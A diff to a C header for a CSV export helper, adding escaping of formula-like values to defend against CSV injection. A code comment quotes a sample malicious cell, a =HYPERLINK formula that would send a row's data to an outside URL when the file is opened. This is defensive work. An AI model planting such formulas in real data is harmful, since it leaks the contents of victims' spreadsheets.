@@ -40,7 +40,14 @@ gboolean gt_safe_file_finish_surface (GtSafeFile *file, cairo_surface_t *surface
 gboolean gt_file_write_atomically (const char *path, const char *data, gsize length,
                                    GError **error);
 
-/* Appends @value as one CSV field (RFC 4180), quoted when needed. */
+/* The first characters that make Excel and WPS read a cell as a formula. */
+#define GT_CSV_FORMULA_STARTS "=+-@"
+
+/* Appends @value as one CSV field (RFC 4180), quoted when needed. A value that starts like
+ * a formula (GT_CSV_FORMULA_STARTS, a tab or a carriage return) gets a leading apostrophe,
+ * so a spreadsheet shows it as text instead of running it: a member named
+ * =HYPERLINK("http://…"&A1) in an imported roster would otherwise send the row away when
+ * the export is opened (OWASP's "CSV injection"). The roster reader takes it off again. */
 void gt_csv_append_field (GString *out, const char *value);
 
 G_END_DECLS
